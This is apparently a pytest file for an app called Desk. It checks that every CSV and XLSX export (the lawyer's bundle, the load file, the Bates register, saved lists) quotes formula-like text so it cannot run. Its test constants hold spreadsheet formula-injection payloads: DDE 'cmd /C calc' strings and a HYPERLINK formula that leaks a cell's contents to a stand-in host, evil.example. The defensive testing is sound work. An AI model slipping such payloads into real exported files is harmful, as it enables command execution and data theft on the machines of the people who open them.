"""Formula injection: a supplier's name, an item's title, a note, a tracking number, a file name that start like a
spreadsheet formula reach every CSV and XLSX file Desk writes (the lawyer's bundle: its tables and its load file;
the Bates register; a list saved as a file) as text: no XLSX cell is a formula, and no CSV cell starts with = + - @,
a tab or a carriage return unless it is a number (OWASP's guidance: a single quote in front)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal, InvalidOperation
from pathlib import Path

from cli_runs import in_process
from factories import add_files, dispute, order, supplier
from openpyxl import load_workbook  # type: ignore[import-untyped]

from desk.evidence.cases import CaseRef
from desk.lists.export import ListTable, all_rows, to_csv, to_xlsx
from desk.lists.listing import display
from desk.lists.specs import ORDERS
from desk.models import ProducedExhibit, Production, TrackingNumber
from desk.settings import set_setting
from desk.spreadsheets import csv_file, xlsx_workbook
from desk.workspace import Workspace

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
ITEM = "=cmd|' /C calc'!A0"
SUPPLIER = '=HYPERLINK("http://evil.example/?"&A1,"Refund")'
NOTE = "@SUM(1+1)*cmd|' /C calc'!A0"
TRACKING = "-2+3+cmd|' /C calc'!A0"
STATEMENT = "\t=1+1"
CASE_NO = "\r=1+1"
BUSINESS = "+1+1 Trading"
FILE_NAME = "-5 items=1+1.txt"
PACKET = "=1+1 claim packet.pdf"
HOSTILE = (ITEM, SUPPLIER, NOTE, TRACKING, STATEMENT, CASE_NO, BUSINESS, FILE_NAME, PACKET)


def _hostile_folder(ws: Workspace, tmp_path: Path) -> int:
    with ws.write() as s:
        set_setting(s, "business_name", BUSINESS)
        made = order(
            s, lines=((ITEM, 1, 1999), ("-5 items", 2, 500)), seller=supplier(s, name=SUPPLIER), notes=NOTE,
            placed_on=date(2026, 10, 1),
        )  # fmt: skip
        made.tracking_numbers.append(TrackingNumber(number=TRACKING))
        case = dispute(s, made.lines[0], statement=STATEMENT, platform_case_no=CASE_NO)
        s.flush()
        dispute_id = case.id
    evidence = tmp_path / FILE_NAME
    evidence.write_text("seller: =1+1", encoding="utf-8")
    (added,) = add_files(ws, [evidence], CaseRef("dispute", dispute_id, f"dispute {dispute_id}"))
    with ws.write() as s:  # a packet as a claim packet records it (making one would take seconds): the register's
        packet = Production(
            dispute_id=dispute_id, case=f"dispute {dispute_id}: {ITEM}", destination=SUPPLIER, prefix="DESK",
            first_number=1, last_number=3, file_name=PACKET, made_on=date(2026, 11, 2), made_by="tester",
        )  # fmt: skip
        packet.exhibits.append(
            ProducedExhibit(evidence_id=added.evidence_id, label="A", file_name=FILE_NAME, first_number=2,
                            last_number=3, pages=2)
        )  # fmt: skip
        s.add(packet)
    return dispute_id


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except InvalidOperation:
        return False
    return True


def _check_csv(name: str, data: bytes, seen: set[str]) -> None:
    text = data.decode("utf-8-sig")
    here = set()
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not cell.startswith(DANGEROUS) or _is_number(cell), f"{name}: {cell!r} is read as a formula"
            here.update(h for h in HOSTILE if cell == "'" + h)
    seen |= here
    for hostile in here:  # quoted: a ";" inside starts no cell of its own in a spreadsheet that splits at ";"
        assert '"' + ("'" + hostile).replace('"', '""') + '"' in text, f"{name}: {hostile!r} is not quoted"


def _check_xlsx(name: str, data: bytes, seen: set[str]) -> None:
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name} {sheet.title}!{cell.coordinate}: a formula"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", f"{name} {sheet.title}!{cell.coordinate}"
                    typed = cell.value.replace("\n", "\r")  # XML reads a carriage return as a line feed
                    if typed in HOSTILE:
                        seen.add(typed)
                        assert cell.quotePrefix, f"{name} {sheet.title}!{cell.coordinate}: no quote prefix"


def test_no_csv_or_xlsx_desk_writes_holds_a_formula(workspace: Workspace, data_folder: Path, tmp_path: Path) -> None:
    _hostile_folder(workspace, tmp_path)
    bundle, register = tmp_path / "bundle.zip", tmp_path / "register.csv"
    with workspace.read() as s:
        rows = all_rows(s, ORDERS)
        listed = ListTable.of("Orders", rows, ORDERS.columns, display)
    done = in_process("export", "-o", str(bundle), data=data_folder)
    assert done.returncode == 0, done.stderr
    done = in_process("register", "-o", str(register), data=data_folder)
    assert done.returncode == 0, done.stderr

    csv_seen: set[str] = set()
    xlsx_seen: set[str] = set()
    with zipfile.ZipFile(bundle) as z:
        written = [name for name in z.namelist() if name.endswith((".csv", ".xlsx"))]
        assert {"loadfile.csv", "tables/orders.csv", "tables/bates-register.csv", "tables/tables.xlsx"} <= set(written)
        for name in written:
            if name.endswith(".xlsx"):
                _check_xlsx(name, z.read(name), xlsx_seen)
            else:
                _check_csv(name, z.read(name), csv_seen)
    _check_csv(register.name, register.read_bytes(), csv_seen)
    _check_csv("a list saved as CSV", to_csv(listed), csv_seen)
    _check_xlsx("a list saved as XLSX", to_xlsx(listed), xlsx_seen)

    assert csv_seen == set(HOSTILE), set(HOSTILE) - csv_seen  # each was written, with its quote in front
    assert xlsx_seen >= {ITEM, SUPPLIER, NOTE, TRACKING, STATEMENT, CASE_NO}, "each kept exactly as typed"
    with zipfile.ZipFile(bundle) as z:
        orders = list(csv.DictReader(io.StringIO(z.read("tables/orders.csv").decode("utf-8-sig"))))
    assert orders[0]["total"] == "29.99" and orders[0]["supplier"] == "'" + SUPPLIER  # amounts stay numbers


def test_a_negative_amount_stays_a_number_and_text_that_starts_like_one_does_not() -> None:
    rows = [(Decimal("-5.00"), -3, "-5 items", "-5")]
    assert csv_file(("amount", "count", "note", "title"), rows).decode("utf-8-sig").splitlines()[1] == (
        "\"-5.00\",\"-3\",\"'-5 items\",\"'-5\""
    )
    sheet = load_workbook(io.BytesIO(xlsx_workbook([("T", ("amount", "count", "note", "title"), rows)]))).active
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-5, "n"), (-3, "n"), ("-5 items", "s"), ("-5", "s")]
    assert sheet["A2"].number_format == "0.00"
